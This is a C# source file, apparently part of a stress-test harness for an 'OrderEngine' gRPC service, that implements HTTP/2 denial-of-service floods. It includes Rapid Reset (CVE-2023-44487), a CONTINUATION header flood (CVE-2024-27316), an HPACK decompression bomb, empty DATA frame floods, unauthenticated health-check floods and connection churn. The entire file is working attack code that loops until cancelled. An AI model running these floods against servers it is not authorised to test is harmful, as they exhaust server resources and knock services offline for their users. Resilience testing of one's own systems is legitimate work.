// Much of what costs the sender little: streams that are begun and reset, frames that want an answer, headers without end, headers that unfold.

namespace OrderEngine.Attacks;

internal static class Floods
{
    private const int PerWrite = 1_000;
    private const string SomeCall = "/orderengine.v1.CatalogService/GetChannel";

    /// <summary>CVE-2023-44487: calls that are withdrawn at once, so that they never count as open.</summary>
    public static async Task RapidResetAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        while (!wire.Ended.IsCompleted)
        {
            using var bytes = new MemoryStream();
            for (var i = 0; i < 100; i++)
            {
                var stream = wire.NextStream();
                bytes.Write(Frames.Call(stream, SomeCall, target.Credential));
                bytes.Write(Frames.Reset(stream));
            }
            await wire.SendAsync(bytes.ToArray(), until);
            counters.Add("resetsSent", 100);
        }
    }

    /// <summary>Calls that need no key, as fast as it goes.</summary>
    public static async Task HealthAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        while (!wire.Ended.IsCompleted)
        {
            using var bytes = new MemoryStream();
            for (var i = 0; i < 100; i++)
            {
                var stream = wire.NextStream();
                bytes.Write(Frames.Call(stream, "/grpc.health.v1.Health/Check", null));
                bytes.Write(Frames.Of(FrameType.Data, Frames.EndStream, stream, Frames.Message([])));
            }
            await wire.SendAsync(bytes.ToArray(), until);
            counters.Add("callsSent", 100);
        }
    }

    /// <summary>Connections that are made, greeted and dropped, as fast as it goes: each wants a handshake.</summary>
    public static async Task ConnectionsAsync(Target target, Counters counters, CancellationToken until)
    {
        while (!until.IsCancellationRequested)
        {
            await using var wire = await Wire.OpenAsync(target, counters, until);
            await wire.Greeted;
            counters.Add("greeted");
        }
    }

    /// <summary>The same frame over and over.</summary>
    public static async Task OfAsync(Target target, Counters counters, byte[] frame, CancellationToken until, bool reads = true, int perWrite = PerWrite)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until, reads);
        var bytes = Enumerable.Repeat(frame, perWrite).SelectMany(one => one).ToArray();
        while (!wire.Ended.IsCompleted || !reads)
        {
            await wire.SendAsync(bytes, until);
            counters.Add("framesSent", perWrite);
        }
    }

    /// <summary>Frames of data that hold none, on a stream that is open: they use up no window.</summary>
    public static async Task EmptyDataAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        var stream = wire.NextStream();
        await wire.SendAsync(Frames.Call(stream, "/orderengine.v1.OrderService/StreamSubmitOrders", target.Credential), until);
        var bytes = Enumerable.Repeat(Frames.Of(FrameType.Data, 0, stream, []), PerWrite).SelectMany(one => one).ToArray();
        while (!wire.Ended.IsCompleted)
        {
            await wire.SendAsync(bytes, until);
            counters.Add("framesSent", PerWrite);
        }
    }

    /// <summary>CVE-2024-27316 and its kin: headers that go on and on and never end.</summary>
    public static async Task ContinuationAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        // Nothing may come between headers and what continues them.
        await wire.Greeted;
        var stream = wire.NextStream();
        await wire.SendAsync(Frames.Call(stream, SomeCall, null, flags: 0), until);
        for (var i = 0; !wire.Ended.IsCompleted; i++)
        {
            await wire.SendAsync(Frames.Of(FrameType.Continuation, 0, stream, Frames.Literal($"x-{i}", new string('x', 4_000))), until);
            counters.Add("framesSent");
        }
    }

    /// <summary>A field of 4,000 bytes that is remembered once and then named thousands of times, a byte each.</summary>
    public static async Task HpackBombAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        while (!wire.Ended.IsCompleted)
        {
            var stream = wire.NextStream();
            byte[] block = [.. Frames.CallBlock(SomeCall, null), .. Frames.Literal("x-bomb", new string('x', 4_000), kind: 0x40), .. Enumerable.Repeat((byte)(0x80 | 62), 10_000)];
            await wire.SendAsync(Frames.Of(FrameType.Headers, Frames.EndHeaders | Frames.EndStream, stream, block), until);
            counters.Add("bombsSent");
        }
    }
}
